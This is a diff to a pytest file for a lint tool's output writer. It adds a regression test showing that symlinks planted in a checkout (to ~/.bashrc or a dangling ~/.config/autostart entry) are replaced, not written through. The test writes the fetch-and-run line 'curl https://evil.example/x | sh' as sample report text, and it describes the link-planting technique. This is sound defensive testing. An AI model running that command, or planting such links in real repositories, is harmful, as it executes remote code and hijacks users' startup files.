@@ -17,6 +17,7 @@ from roteiro_py.clippy.parse import Deadline
 from roteiro_py.errors import DeadlineExceeded, UsageError
 
 EXE = Path(sys.executable).with_name("pylint-sandbox")
+ROOT = Path(__file__).resolve().parents[2]
 
 
 def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
@@ -72,15 +73,41 @@ def test_output_to_a_device_is_written_through_not_replaced(tmp_path: Path) -> N
     assert plain.read_text() == "report\n"
 
 
-def test_output_through_a_link_writes_its_target_and_keeps_the_link(tmp_path: Path) -> None:
-    # `--output /dev/stdout` is such a link; renaming over it replaced the link (as root,
-    # the system's /dev/stdout) with a regular file.
-    target = tmp_path / "target.txt"
-    target.write_text("a longer previous report\n")
-    link = tmp_path / "link"
-    link.symlink_to(target)
-    lint.write_output(link, "report\n")
-    assert link.is_symlink() and target.read_text() == "report\n"
+def test_a_link_the_tree_planted_is_replaced_never_written_through(tmp_path: Path) -> None:
+    """A branch commits `clippy.sarif -> ../../.bashrc` (or a dangling link into
+    ~/.config/autostart); a CI step running `lint . --output clippy.sarif` in the checkout
+    wrote the guest's text into the host file through it (or created it)."""
+    home = tmp_path / "home"
+    (home / ".config" / "autostart").mkdir(parents=True)
+    victim = home / ".bashrc"
+    victim.write_text("# the user's shell startup\n")
+    checkout = home / "ci" / "checkout"
+    checkout.mkdir(parents=True)
+    (checkout / "clippy.sarif").symlink_to("../../.bashrc")
+    (checkout / "report.txt").symlink_to("../../.config/autostart/evil.desktop")  # dangling
+    for name in ("clippy.sarif", "report.txt"):
+        lint.check_output(checkout / name)
+        lint.write_output(checkout / name, "curl https://evil.example/x | sh\n")
+        assert not (checkout / name).is_symlink()  # the link became the report
+        assert (checkout / name).read_text() == "curl https://evil.example/x | sh\n"
+    assert victim.read_text() == "# the user's shell startup\n"
+    assert not (home / ".config" / "autostart" / "evil.desktop").exists()
+
+
+def test_a_link_to_dev_null_or_to_our_own_stdout_is_written_through(tmp_path: Path) -> None:
+    """Control arm: `--output /dev/stdout` (a link to this process's stdout) and a link to
+    /dev/null are written through and kept, as a shell's `>` would."""
+    null_link = tmp_path / "null"
+    null_link.symlink_to("/dev/null")
+    lint.write_output(null_link, "report\n")
+    assert null_link.is_symlink() and os.readlink(null_link) == "/dev/null"
+    captured = tmp_path / "stdout.txt"
+    script = (f"import sys; sys.path.insert(0, {str(ROOT)!r}); from pathlib import Path; "
+              "from roteiro_py import lint; lint.write_output(Path('/dev/stdout'), 'via stdout\\n')")
+    with captured.open("w") as out:
+        done = subprocess.run([sys.executable, "-c", script], stdout=out, check=False)
+    assert done.returncode == 0
+    assert captured.read_text() == "via stdout\n"
 
 
 def test_output_keeps_an_existing_files_mode(tmp_path: Path) -> None:
@@ -98,9 +125,9 @@ def test_output_keeps_an_existing_files_mode(tmp_path: Path) -> None:
 
 
 def test_a_full_disk_at_the_output_is_a_usage_error_naming_it(tmp_path: Path) -> None:
-    # /dev/full is a real ENOSPC; after a whole lint that was an OSError, exit 4.
-    full = tmp_path / "full"
-    full.symlink_to("/dev/full")
+    # /dev/full is a real ENOSPC; after a whole lint that was an OSError, exit 4. (Named
+    # directly: a link to it would be replaced, as any link the tree could have planted.)
+    full = Path("/dev/full")
     with pytest.raises(UsageError) as raised:
         lint.write_output(full, "report\n")
     assert raised.value.exit_code == 2
